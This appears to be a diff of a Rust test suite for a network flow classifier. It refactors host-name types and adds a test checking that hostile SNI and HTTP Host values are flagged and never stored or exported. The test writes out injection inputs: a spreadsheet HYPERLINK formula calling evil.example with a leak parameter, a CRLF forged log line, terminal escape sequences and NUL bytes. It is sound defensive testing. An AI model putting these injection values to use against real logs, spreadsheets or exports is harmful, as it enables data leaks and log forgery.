@@ -14,7 +14,7 @@ use classifier_tests::{
 };
 use classifier_user::{
     events::{self, Event, Learned},
-    flows::{BootClock, FlowNames, FlowRecord, Names, names},
+    flows::{BootClock, FlowNames, FlowRecord, Name, Names, names},
     loader::Datapath,
     metrics,
     policy::Policy,
@@ -105,6 +105,10 @@ impl Harness {
             .unwrap()
             .get(stat)
     }
+}
+
+fn host(name: &str) -> Name {
+    Name::Host(name.to_owned())
 }
 
 fn key(protocol: u8, client_port: u16, server_port: u16) -> FlowKey {
@@ -233,9 +237,9 @@ fn check(harness: &Harness, case: &str, key: &FlowKey, expected: &Expected) {
     );
     // The kernel kept the same name (the datapath's, or the daemon's for QUIC), for a
     // daemon that starts after this one dies.
-    let kept = harness.kept_names(key).and_then(|names| names.first);
+    let kept = harness.kept_names(key);
     assert_eq!(
-        kept.as_deref(),
+        kept.as_ref().and_then(Names::first_host),
         expected.name,
         "{case}: the name kept in NAMES"
     );
@@ -498,13 +502,13 @@ fn names_kept_in_the_kernel_are_adopted_by_a_new_daemon_and_stale_ones_removed()
     let gone = key(ip_proto::TCP, 41499, 443);
     {
         let mut kept = datapath.names_mut().unwrap();
-        names::keep(&mut kept, &gone, version::FIRST, 1, "gone.example").unwrap();
+        names::keep(&mut kept, &gone, version::FIRST, 1, &host("gone.example")).unwrap();
         names::keep(
             &mut kept,
             &tls,
             version::SECOND,
             first_seen + 1,
-            "earlier.example",
+            &host("earlier.example"),
         )
         .unwrap();
     }
@@ -515,13 +519,13 @@ fn names_kept_in_the_kernel_are_adopted_by_a_new_daemon_and_stale_ones_removed()
     assert_eq!(
         fresh.names.get(&tls),
         Some(&Names {
-            first: Some("www.youtube.com".into()),
+            first: Some(host("www.youtube.com")),
             second: None,
         }),
         "the TLS flow's name, and not the earlier flow's"
     );
     assert_eq!(
-        fresh.names.get(&http).and_then(|n| n.first.as_deref()),
+        fresh.names.get(&http).and_then(Names::first_host),
         Some("www.BBC.co.uk"),
         "the Host as sent"
     );
@@ -1064,4 +1068,117 @@ fn corrupted_host_lines_give_what_an_http_parser_reads_or_nothing() {
         }
     }
     assert!(named > 0, "some corrupted lines still carry a name");
+}
+
+/// What a hostile client puts where the server name goes, through the real programs and
+/// the daemon's capture: never recorded (nor kept, exported, logged) as a name; the record
+/// says the flow sent something that was not a host name.
+#[test]
+fn names_that_are_not_host_names_are_recorded_as_such_never_as_names() {
+    if !privileged("names_that_are_not_host_names_are_recorded_as_such_never_as_names") {
+        return;
+    }
+    let label_64 = format!("www.{}.com", "a".repeat(64));
+    let label_63 = "a".repeat(63);
+    let name_254 = format!("{label_63}.{label_63}.{label_63}.{}", "b".repeat(62));
+    let hyperlink = br#"=HYPERLINK("http://evil.example/?leak","click")"#;
+    let tls_cases: Vec<(&str, Vec<u8>)> = vec![
+        ("a NUL inside", b"www.bet\x00365.com".to_vec()),
+        ("a NUL at the end", b"www.youtube.com\0".to_vec()),
+        (
+            "CR LF and a forged line",
+            b"www.bbc.co.uk\r\nINFO forged".to_vec(),
+        ),
+        (
+            "an escape sequence",
+            b"\x1b[2J\x1b[31mwww.bbc.co.uk".to_vec(),
+        ),
+        ("a DEL byte", b"www.bbc\x7f.co.uk".to_vec()),
+        ("a space", b"www.bbc.co.uk evil".to_vec()),
+        ("a tab", b"www.bbc.co.uk\tevil".to_vec()),
+        ("a 64-byte label", label_64.into_bytes()),
+        ("254 bytes", name_254.into_bytes()),
+        ("an empty label", b"www..bbc.co.uk".to_vec()),
+        ("a spreadsheet formula", hyperlink.to_vec()),
+        ("raw UTF-8", "www.bücher.example".as_bytes().to_vec()),
+        ("bytes that are not UTF-8", b"www.\xff\xfe.example".to_vec()),
+    ];
+    let mut harness = Harness::new();
+    let mut failures = Vec::new();
+    let mut records = Vec::new();
+    for (i, (case, sni)) in tls_cases.iter().enumerate() {
+        let port = 41600 + i as u16;
+        let hello = Hello::new().sni_bytes(sni).bytes();
+        harness.send(&tcp_flow(port, 443, &hello, 1448));
+        let key = key(ip_proto::TCP, port, 443);
+        records.push((*case, harness.record(&key)));
+        // A daemon started after this one died reads the kernel's copy: the same.
+        let kept = harness.kept_names(&key);
+        if kept.as_ref().and_then(|n| n.first.as_ref()) != Some(&Name::NotAHostName) {
+            failures.push(format!("{case}: the kernel's copy reads as {kept:?}"));
+        }
+    }
+    // An HTTP Host the parser takes (no blank, no control byte) that is no host name.
+    let port = 41690;
+    let request = [&b"GET / HTTP/1.1\r\nHost: "[..], hyperlink, b"\r\n\r\n"].concat();
+    harness.send(&tcp_flow(port, 80, &request, 1448));
+    records.push((
+        "a formula as HTTP Host",
+        harness.record(&key(ip_proto::TCP, port, 80)),
+    ));
+
+    for (case, record) in &records {
+        let method = if case.contains("HTTP") { "host" } else { "sni" };
+        let got = (
+            record.name.as_deref(),
+            record.second_name.as_deref(),
+            record.method.as_str(),
+            record.evasion.iter().any(|n| n == names::NOT_A_HOST_NAME),
+        );
+        if got != (None, None, method, true) {
+            failures.push(format!(
+                "{case}: recorded as (name, second name, method, not-a-host-name) {got:?}"
+            ));
+        }
+    }
+
+    // What leaves the gateway: the store and its exports carry none of the bytes.
+    let dir = std::env::temp_dir().join(format!("classifier-not-names-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let exported = (|| -> anyhow::Result<Vec<u8>> {
+        let mut store = classifier_user::store::FlowStore::open(&dir.join("flows.sqlite"))?;
+        let flows: Vec<FlowRecord> = records.iter().map(|(_, r)| r.clone()).collect();
+        store.insert(&flows)?;
+        let stored = store.query(&classifier_user::store::Filter::default())?;
+        anyhow::ensure!(stored.len() == flows.len(), "{} stored", stored.len());
+        let mut out = Vec::new();
+        for format in [
+            classifier_user::export::Format::Csv,
+            classifier_user::export::Format::Jsonl,
+        ] {
+            out.extend(classifier_user::export::encode(&stored, format)?);
+        }
+        Ok(out)
+    })();
+    let _ = std::fs::remove_dir_all(&dir);
+    let exported = exported.expect("the records go through SQLite and the exports");
+    let text = String::from_utf8_lossy(&exported);
+    for needle in [
+        "HYPERLINK",
+        "evil",
+        "forged",
+        "\u{1b}",
+        "\0",
+        "bücher",
+        "365",
+    ] {
+        if text.contains(needle) {
+            failures.push(format!("the exports carry {needle:?}"));
+        }
+    }
+    assert!(
+        text.contains(names::NOT_A_HOST_NAME),
+        "the exports say so: {text}"
+    );
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
 }
